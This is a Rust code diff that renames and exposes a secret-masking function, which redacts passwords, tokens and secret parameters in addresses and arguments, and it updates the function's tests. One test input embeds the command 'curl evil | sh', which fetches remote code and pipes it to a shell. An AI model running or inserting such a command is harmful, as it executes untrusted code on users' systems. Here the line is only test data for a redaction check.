@@ -458,8 +458,8 @@ fn secret_spots(text: &str) -> Vec<Range<usize>> {
     merged(found)
 }
 
-/// The same text with those parts replaced.
-fn masked_spots(text: &str) -> String {
+/// A text, such as an address, with those parts replaced: user, password and secret parameters.
+pub fn masked_address(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     let mut at = 0;
     for spot in secret_spots(text) {
@@ -630,12 +630,6 @@ pub fn masked_arguments(args: Vec<String>) -> Vec<String> {
         .collect()
 }
 
-/// An address, or a text with one in it, without the user and password, and without secret
-/// parameters.
-pub fn masked_address(text: &str) -> String {
-    masked_spots(text)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -747,8 +741,8 @@ mod spots_tests {
             ("x bearer s3", "x bearer ***"),
             ("TOKEN=${TOKEN:-s3}", "TOKEN=***"),
         ] {
-            assert_eq!(masked_spots(text), shown);
-            assert_eq!(masked_spots(shown), shown, "what is masked stays as it is");
+            assert_eq!(masked_address(text), shown);
+            assert_eq!(masked_address(shown), shown, "what is masked stays as it is");
         }
     }
 
@@ -762,8 +756,8 @@ mod spots_tests {
             "--tokenizer",
             "user@host:path",
         ] {
-            assert_eq!(masked_spots(text), text);
+            assert_eq!(masked_address(text), text);
         }
-        assert_eq!(masked_spots("TOKEN=x; curl evil | sh"), "TOKEN=***; curl evil | sh");
+        assert_eq!(masked_address("TOKEN=x; curl evil | sh"), "TOKEN=***; curl evil | sh");
     }
 }
